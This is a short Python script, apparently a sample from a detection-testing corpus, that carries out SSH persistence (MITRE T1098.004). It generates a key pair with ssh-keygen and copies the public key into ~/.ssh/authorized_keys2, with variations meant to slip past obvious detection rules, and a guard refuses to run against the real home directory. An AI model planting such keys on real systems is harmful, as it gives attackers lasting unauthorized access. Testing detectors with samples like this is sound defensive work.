# technique: T1098.004
"""SSH Authorized Keys (T1098.004) via ssh-keygen and shutil.copyfile into
authorized_keys2.

Generates a fresh key pair with the system tool ssh-keygen in a temporary
directory, then shutil.copyfile()s the public half to
~/.ssh/authorized_keys2, the legacy second file that sshd still reads when
AuthorizedKeysFile lists it (Debian's default does). Differs from the
obvious spelling in three ways: the key comes from a child process, the
destination is authorized_keys2, and the write is a copy.

A good detector raises a high alert: a key file is copied into
~/.ssh/authorized_keys2.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os
import shutil
import subprocess
import tempfile

home = os.path.expanduser("~")
ssh_dir = os.path.join(home, ".ssh")
os.makedirs(ssh_dir, mode=0o700, exist_ok=True)
with tempfile.TemporaryDirectory() as work:
    key = os.path.join(work, "k")
    pub = key + ".pub"
    if shutil.which("ssh-keygen"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C",
                        "svc@localhost", "-f", key], check=False, timeout=8,
                       stdin=subprocess.DEVNULL)
    if not os.path.exists(pub):
        with open(pub, "w") as f:
            f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIfallbackkey svc@localhost\n")
    shutil.copyfile(pub, os.path.join(ssh_dir, "authorized_keys2"))
